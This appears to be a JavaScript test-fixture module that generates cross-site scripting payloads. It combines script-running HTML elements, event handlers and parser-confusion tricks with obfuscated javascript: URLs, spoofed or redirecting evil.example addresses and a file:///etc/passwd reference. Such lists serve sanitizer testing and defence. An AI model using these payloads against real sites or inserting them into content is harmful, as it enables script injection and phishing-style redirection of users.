/** Elements that run scripts, load resources or navigate away, each with a place for a URL. */
const ELEMENTS = [
  "<script>alert(1)</script>",
  "<script src=ADDRESS></script>",
  "<img src=ADDRESS onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=ADDRESS><text>x</text></a></svg>",
  "<svg><use href=ADDRESS /></svg>",
  "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
  "<iframe src=ADDRESS></iframe>",
  "<iframe srcdoc='<img src=x onerror=alert(1)>'></iframe>",
  "<object data=ADDRESS></object>",
  "<embed src=ADDRESS>",
  "<form action=ADDRESS><button>go</button></form>",
  "<button formaction=ADDRESS>go</button>",
  "<input onfocus=alert(1) autofocus>",
  "<base href=ADDRESS>",
  "<link rel=stylesheet href=ADDRESS>",
  "<meta http-equiv=refresh content='0;url=ADDRESS'>",
  "<style>@import 'ADDRESS';</style>",
  "<a href=ADDRESS>x</a>",
  "<a href='ADDRESS' onclick=alert(1)>x</a>",
  '<a href="ADDRESS" target="_top" style="position:fixed;inset:0">x</a>',
  "<b onmouseover=alert(1) id=x name=y>x</b>",
  "<a href=ADDRESS><a href=ADDRESS>x</a></a>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><img src=x onerror=alert(1)></template>",
  "<textarea></textarea><img src=ADDRESS onerror=alert(1)>",
  "<!--><img src=ADDRESS onerror=alert(1)>-->",
  "<![CDATA[<img src=ADDRESS onerror=alert(1)>]]>",
  "<table background=ADDRESS><tr><td>x</table>",
  "<video poster=ADDRESS onloadstart=alert(1)><source src=ADDRESS></video>",
  "<details open ontoggle=alert(1)>x</details>",
];

/** Addresses that run something, or lead elsewhere than they look. */
const ADDRESSES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A&#x61;vascript:alert(1)",
  "\u0001javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "//evil.example/x",
  "/\\evil.example",
  "https://console.example@evil.example/",
  "blob:https://x.example/1",
  "file:///etc/passwd",
];

/** Each element with each address, 32 times 13. */
export const payloads = ELEMENTS.flatMap((element) =>
  ADDRESSES.map((address) =>
    element.includes("ADDRESS") ? element.replaceAll("ADDRESS", address) : `${element}${address}`,
  ),
);
